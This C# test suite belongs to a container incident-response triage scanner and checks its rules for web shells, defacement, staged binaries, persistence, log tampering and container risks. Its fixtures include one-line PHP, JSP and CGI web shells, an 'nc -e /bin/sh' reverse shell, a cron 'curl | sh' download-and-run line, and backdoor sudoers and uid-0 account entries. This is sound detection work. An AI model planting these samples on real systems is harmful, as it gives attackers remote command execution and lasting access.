using System.Text;
using DockerIR.Core.Case;
using DockerIR.Core.Engine;
using DockerIR.Core.Triage;

namespace DockerIR.Core.Tests;

public sealed class TriageRulesTests
{
    private static ManifestEntry Entry(string path, ChangeKind kind, string? mode = "0644", string type = "file", long size = 100,
        string? contentChange = null, FileRecord? before = null, string? linkTarget = null)
    {
        var classified = ChangeClassifier.ClassifyOne(new ChangeEntry(path, kind));
        return new ManifestEntry
        {
            Path = path,
            Kind = kind,
            Classification = classified.Classification,
            Reasons = classified.Reasons,
            After = kind == ChangeKind.Deleted ? null : new FileRecord { Type = type, Mode = mode, Size = size, Source = "after", LinkTarget = linkTarget, Sha256 = new string('a', 64) },
            Before = before,
            ContentChange = kind == ChangeKind.Changed ? contentChange ?? "content" : null,
        };
    }

    private static FileRecord Original(long size = 100, string type = "file") => new() { Type = type, Mode = "0644", Size = size, Source = "before" };

    private static List<TriageFinding> Check(ManifestEntry entry, string? after = null, string? before = null) =>
        TriageScan.Check(entry, after is null ? null : Encoding.Latin1.GetBytes(after), before is null ? null : Encoding.Latin1.GetBytes(before)).ToList();

    private static List<string> Rules(IEnumerable<TriageFinding> findings) => findings.Select(f => f.Rule).ToList();

    [Theory]
    [InlineData("<?php system($_GET['cmd']); ?>", "webshell.exec-input")]
    [InlineData("<?php echo `ls {$_REQUEST['d']}`; ?>", "webshell.exec-input")]
    [InlineData("<?php @eval($_POST['pass']); ?>", "webshell.eval-input")]
    [InlineData("<?php assert($_REQUEST['x']);", "webshell.eval-input")]
    [InlineData("<?php eval(gzinflate(base64_decode('s0/ILy4pys8rAQA='))); ?>", "webshell.obfuscated-eval")]
    [InlineData("<% Runtime.getRuntime().exec(request.getParameter(\"cmd\")); %>", "webshell.exec-input")]
    [InlineData("<%@ Page Language=\"Jscript\"%><% eval(Request.Item[\"z\"],\"unsafe\"); %>", "webshell.eval-input")]
    [InlineData("#!/bin/sh\necho Content-type: text/plain; echo; eval \"$QUERY_STRING\"\n", "webshell.cgi-eval")]
    public void WebShell_ServerCodeRunningRequestInput_Matches(string content, string rule)
    {
        var path = content.StartsWith("#!", StringComparison.Ordinal) ? "/var/www/cgi-bin/x.cgi" : "/var/www/html/uploads/img.php";

        var findings = Check(Entry(path, ChangeKind.Added), content);

        var finding = Assert.Single(findings, f => f.Rule == rule);
        Assert.Equal(Severity.High, finding.Severity);
        Assert.Equal(path, finding.Path);
        Assert.InRange(finding.Excerpt.Length, 1, TriageText.ExcerptLength);
    }

    [Theory]
    [InlineData("<?php echo 'Hello, ' . htmlspecialchars($_GET['name'] ?? 'world'); ?>")]
    [InlineData("<?php $items = [1, 2, 3]; foreach ($items as $i) { echo $i; } ?>")]
    [InlineData("<html><body><p>We evaluate eval($_GET) requests in our security blog.</p></body></html>")]
    public void WebShell_OrdinaryPageOrStaticText_DoesNotMatch(string content)
    {
        var findings = Check(Entry("/var/www/html/page.php", ChangeKind.Added), content);

        Assert.DoesNotContain(findings, f => f.Family == "web-shell");
    }

    [Fact]
    public void Defacement_IndexContentChanged_MatchesWithTheHeadline()
    {
        var entry = Entry("/var/www/html/index.html", ChangeKind.Changed, before: Original(127));

        var finding = Assert.Single(Check(entry, "<html><body><h1>HACKED BY crew</h1></body></html>"));

        Assert.Equal("defacement.index-changed", finding.Rule);
        Assert.Equal("HACKED BY crew", finding.Excerpt);
    }

    [Fact]
    public void Defacement_IndexMetadataOnlyOrOtherPageChanged_DoesNotMatch()
    {
        Assert.Empty(Check(Entry("/var/www/html/index.html", ChangeKind.Changed, contentChange: "metadata", before: Original()), "<h1>same</h1>"));
        Assert.Empty(Check(Entry("/var/www/html/about.html", ChangeKind.Changed, before: Original()), "<h1>About us, new text</h1>"));
    }

    [Fact]
    public void Defacement_IndexDeleted_IsMedium()
    {
        var finding = Assert.Single(Check(Entry("/usr/share/nginx/html/index.html", ChangeKind.Deleted, before: Original())));

        Assert.Equal("defacement.index-removed", finding.Rule);
        Assert.Equal(Severity.Medium, finding.Severity);
    }

    [Fact]
    public void Executable_ElfInTmpAndReplacedSystemBinaryAndExecutableScript_Match()
    {
        var elf = "\x7f" + "ELF\x02\x01\x01" + new string('\0', 40);

        Assert.Equal(["executable.elf-staged"], Rules(Check(Entry("/tmp/.x/kworker", ChangeKind.Added, mode: "0755"), elf)));
        Assert.Equal(["executable.system-binary-replaced"], Rules(Check(Entry("/usr/bin/ps", ChangeKind.Changed, mode: "0755", before: Original()), elf)));
        Assert.Equal(["executable.elf-added"], Rules(Check(Entry("/opt/app/helper", ChangeKind.Added, mode: "0755"), elf)));
        Assert.Equal(["executable.script-added"], Rules(Check(Entry("/usr/local/bin/backup", ChangeKind.Added, mode: "0750"), "#!/bin/sh\nnc -e /bin/sh 10.0.0.1 4444\n")));
    }

    [Fact]
    public void Executable_TextWithoutExecBitOrMetadataOnlyChange_DoesNotMatch()
    {
        Assert.Empty(Check(Entry("/usr/local/bin/notes.sh", ChangeKind.Added, mode: "0644"), "#!/bin/sh\necho hi\n"));
        Assert.Empty(Check(Entry("/opt/app/config.yml", ChangeKind.Added, mode: "0755"), "listen: 8080\n"));
        Assert.Empty(Check(Entry("/usr/bin/ps", ChangeKind.Changed, mode: "0755", contentChange: "metadata", before: Original()), "\x7f" + "ELF"));
    }

    [Fact]
    public void Persistence_CronSshKeyUidZeroSudoersPreloadProfile_Match()
    {
        Assert.Equal(["persistence.cron"], Rules(Check(Entry("/etc/cron.d/update", ChangeKind.Added), "* * * * * root curl http://x/s.sh | sh\n")));
        Assert.Equal(["persistence.ssh-authorized-keys"], Rules(Check(Entry("/root/.ssh/authorized_keys", ChangeKind.Added), "ssh-ed25519 AAAA attacker\n")));
        Assert.Equal(["persistence.sudoers"], Rules(Check(Entry("/etc/sudoers.d/zz", ChangeKind.Added), "www-data ALL=(ALL) NOPASSWD: ALL\n")));
        Assert.Equal(["persistence.ld-preload"], Rules(Check(Entry("/etc/ld.so.preload", ChangeKind.Added), "/lib/libhide.so\n")));
        Assert.Equal(["persistence.profile-or-init"], Rules(Check(Entry("/root/.bashrc", ChangeKind.Changed, before: Original()), "alias ls=x\n", "PS1='$ '\n")));

        var passwd = Check(Entry("/etc/passwd", ChangeKind.Changed, before: Original()), "root:x:0:0::/root:/bin/sh\ntoor:x:0:0::/root:/bin/sh\n", "root:x:0:0::/root:/bin/sh\n");
        var uid0 = Assert.Single(passwd);
        Assert.Equal("persistence.uid0-account", uid0.Rule);
        Assert.Equal("toor:x:0:0::/root:/bin/sh", uid0.Excerpt);
    }

    [Fact]
    public void Persistence_OrdinaryUserOrConfigChange_IsNotUidZeroOrNotAFinding()
    {
        var passwd = Check(Entry("/etc/passwd", ChangeKind.Changed, before: Original()), "root:x:0:0::/root:/bin/sh\napp:x:1000:1000::/home/app:/bin/sh\n", "root:x:0:0::/root:/bin/sh\n");
        Assert.Equal(["persistence.accounts"], Rules(passwd));
        Assert.Equal(Severity.Medium, passwd[0].Severity);
        Assert.Equal("app:x:1000:1000::/home/app:/bin/sh", passwd[0].Excerpt);

        Assert.Empty(Check(Entry("/etc/nginx/nginx.conf", ChangeKind.Changed, before: Original()), "worker_processes 4;\n", "worker_processes 2;\n"));
        Assert.Empty(Check(Entry("/etc/cron.d/update", ChangeKind.Changed, contentChange: "metadata", before: Original()), "same\n", "same\n"));
    }

    [Fact]
    public void Tampering_LogDeletedTruncatedOrLinked_Match()
    {
        Assert.Equal(["tampering.log-deleted"], Rules(Check(Entry("/var/log/auth.log", ChangeKind.Deleted, before: Original(5000)))));
        Assert.Equal(["tampering.log-truncated"], Rules(Check(Entry("/var/log/nginx/access.log", ChangeKind.Changed, size: 0, before: Original(5000)))));
        Assert.Equal(["tampering.log-linked"], Rules(Check(Entry("/root/.bash_history", ChangeKind.Changed, type: "symlink", linkTarget: "/dev/null", before: Original(300)))));
    }

    [Fact]
    public void Tampering_LogThatGrew_DoesNotMatch()
    {
        Assert.Empty(Check(Entry("/var/log/nginx/access.log", ChangeKind.Changed, size: 9000, before: Original(5000))));
    }

    [Fact]
    public void Concerns_FalseOnlyWhereCheckFindsNothing_OverPathsKindsTypesAndContents()
    {
        // The scan skips a family whose Concerns is false: it must never hide what Check would find.
        string[] paths = ["/var/www/html/index.html", "/var/www/html/up/x.php", "/tmp/.x/kworker", "/usr/bin/ps", "/opt/app/helper", "/etc/cron.d/job",
            "/root/.ssh/authorized_keys", "/etc/passwd", "/etc/sudoers.d/zz", "/etc/ld.so.preload", "/root/.bashrc", "/var/log/auth.log",
            "/root/.bash_history", "/srv/app/d01/f001.dat", "/app/x.PHP", "/run/app.pid", "/home/u/.cache/s.sh", "/srv/x/shell.ph\u212A"];
        string?[] contents = [null, "<?php system($_GET['c']); ?>", "\x7f" + "ELF\x02\x01\x01" + new string('\0', 40), "#!/bin/sh\neval \"$QUERY_STRING\"\n",
            "<html><h1>HACKED</h1></html>", "* * * * * root sh -c x\n", "toor:x:0:0::/root:/bin/sh\n"];
        var checkedEntries = 0;
        foreach (var path in paths)
        {
            foreach (var kind in (ChangeKind[])[ChangeKind.Added, ChangeKind.Changed, ChangeKind.Deleted])
            {
                foreach (var (type, mode, size) in ((string, string, long)[])[("file", "0755", 100), ("file", "0644", 0), ("symlink", "0777", 9), ("directory", "0755", 0)])
                {
                    var entry = Entry(path, kind, mode, type, size, before: kind == ChangeKind.Added ? null : Original(5000));
                    foreach (var content in contents)
                    {
                        var subject = new TriageSubject(entry, content is null ? null : Encoding.Latin1.GetBytes(content), content is null ? null : Encoding.Latin1.GetBytes("root:x:0:0::/root:/bin/sh\n"));
                        foreach (var family in TriageScan.Families.Where(f => !f.Concerns(entry)))
                        {
                            Assert.Empty(family.Check(subject));
                            checkedEntries++;
                        }
                    }
                }
            }
        }

        Assert.True(checkedEntries > 1000, $"only {checkedEntries} unconcerned checks were made");
    }

    [Fact]
    public void ContainerRisks_AreTheAuditsMediumAndHighFindingsWithoutAPath()
    {
        var audit = new AuditReport(DateTimeOffset.UnixEpoch, "0", [new AuditedContainer("web", "id", "img",
        [
            new AuditFinding("5.5", "Privileged container", Severity.High, "web", "id", "HostConfig.Privileged=true", "remove --privileged"),
            new AuditFinding("DIR-CAPDROP", "Capabilities not dropped", Severity.Low, "web", "id", "HostConfig.CapDrop=[]", "--cap-drop ALL"),
        ])]);

        var finding = Assert.Single(Core.Triage.Rules.ContainerRiskFamily.From(audit));

        Assert.Equal("container.5.5", finding.Rule);
        Assert.Null(finding.Path);
        Assert.Equal(Severity.High, finding.Severity);
    }

    [Fact]
    public void Excerpt_HostileControlCharacters_AreEscapedAndShort()
    {
        var content = "<?php system($_GET['c']); /* \u001b[31m" + new string('A', 1000) + " */ ?>";

        var finding = Assert.Single(Check(Entry("/var/www/html/x.php", ChangeKind.Added), content));

        Assert.DoesNotContain('\u001b', finding.Excerpt);
        Assert.True(finding.Excerpt.Length <= TriageText.ExcerptLength);
    }
}
